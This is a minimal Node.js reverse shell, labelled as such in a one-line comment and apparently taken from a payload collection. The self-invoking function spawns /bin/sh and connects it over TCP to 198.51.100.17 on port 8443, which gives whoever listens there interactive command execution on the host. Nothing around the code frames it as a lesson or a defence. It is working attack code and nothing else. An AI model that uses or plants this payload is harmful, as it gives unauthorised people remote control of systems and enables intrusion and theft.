// class: reverse shell; style: minimal
(function(){var n=require("net"),c=require("child_process").spawn("/bin/sh",[]);var s=new n.Socket();
s.connect(8443,"198.51.100.17",function(){s.pipe(c.stdin);c.stdout.pipe(s);c.stderr.pipe(s)});return /a/})();
